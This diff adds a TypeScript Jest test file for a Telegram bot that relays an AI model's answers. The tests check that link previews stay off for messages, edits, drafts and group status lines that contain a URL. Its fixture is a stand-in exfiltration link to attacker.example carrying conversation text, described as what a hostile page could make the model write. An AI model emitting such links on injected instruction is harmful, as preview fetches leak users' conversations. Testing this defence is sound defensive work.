@@ -1,0 +1,58 @@
+import { expect, test } from '@jest/globals';
+import { CHAT, eachInWorld, shown, start, world } from '../../fixture/each-test.ts';
+import { nextOutcome } from '../../fixture/ledger.ts';
+
+const GROUP = -1_002_000_000_001;
+/** What a hostile page could have the model write. */
+const LEAK = 'https://attacker.example/?d=what+was+said';
+const OFF = { is_disabled: true };
+const SHOWING = /^(?:send|edit).*(?:Message|Text|Draft)$/;
+
+eachInWorld({
+  claude: { deltaDelayMs: 20 },
+  env: { TELEGRAM_ALLOWED_IDS: `${CHAT},${GROUP}`, TELEGRAM_ANSWER_ALL_IDS: '*' },
+});
+
+/** The calls that showed a text with the address, each with what it said about previews. */
+function leaks(): { method: string; previews: unknown }[] {
+  return world.telegram.calls
+    .filter(({ method, params }) => SHOWING.test(method) && JSON.stringify(params).includes('attacker.example'))
+    .map(({ method, params }) => ({ method, previews: params.link_preview_options }));
+}
+
+test.each([
+  ['plain text', `Look: ${LEAK}`],
+  ['a link behind words', `**Look** [here](${LEAK})`],
+  ['a table', `| a | b |\n|---|---|\n| [x](${LEAK}) | 1 |`],
+  ['a picture', `![chart](${LEAK})`],
+  ['a long answer in parts', `${`Look: ${LEAK}\n\n`.repeat(300)}`],
+])('no text that the model wrote may be previewed, nor its drafts: %s', async (_, answer) => {
+  world.claude.react(() => ({ do: 'answer', text: answer }));
+  await start({}, { draftsEveryMs: 20 });
+  world.telegram.say(CHAT, 'Summarise this page');
+  expect(await nextOutcome(world, CHAT, 1, 20_000)).toMatchObject({ outcome: 'answered' });
+  const seen = leaks();
+  expect(seen.length).toBeGreaterThan(0);
+  expect(seen.filter(({ previews }) => JSON.stringify(previews) !== JSON.stringify(OFF))).toEqual([]);
+});
+
+test('the status line of a group, an answer that was cut, and what is repeated are not previewed either', async () => {
+  world.claude.react(() => ({ do: 'answer', text: `Look: ${LEAK}`, stopReason: 'max_tokens', afterMs: 300 }));
+  world.telegram.fail('sendMessage', { do: 'loseReply' }, 1, ({ text }) => String(text).includes('attacker'));
+  await start({}, { statusAfterMs: 20, statusEveryMs: 20 });
+  world.telegram.say(GROUP, 'Summarise this page', { fromId: CHAT });
+  expect(await nextOutcome(world, GROUP, 1, 20_000)).toMatchObject({ outcome: 'answered' });
+  expect(shown(GROUP).at(-1)).toContain(LEAK);
+  const texts = world.telegram.calls.filter(({ method, params }) => SHOWING.test(method) && params.chat_id === GROUP);
+  expect(new Set(texts.map(({ method }) => method))).toEqual(new Set(['sendMessage', 'editMessageText']));
+  expect(texts.filter(({ params }) => JSON.stringify(params.link_preview_options) !== JSON.stringify(OFF))).toEqual([]);
+});
+
+test('TELEGRAM_LINK_PREVIEWS=true leaves previews to Telegram', async () => {
+  world.claude.react(() => ({ do: 'answer', text: `Look: ${LEAK}` }));
+  await start({ TELEGRAM_LINK_PREVIEWS: 'true' });
+  world.telegram.say(CHAT, 'Summarise this page');
+  expect(await nextOutcome(world, CHAT)).toMatchObject({ outcome: 'answered' });
+  expect(leaks().length).toBeGreaterThan(0);
+  expect(leaks().filter(({ previews }) => previews !== undefined)).toEqual([]);
+});
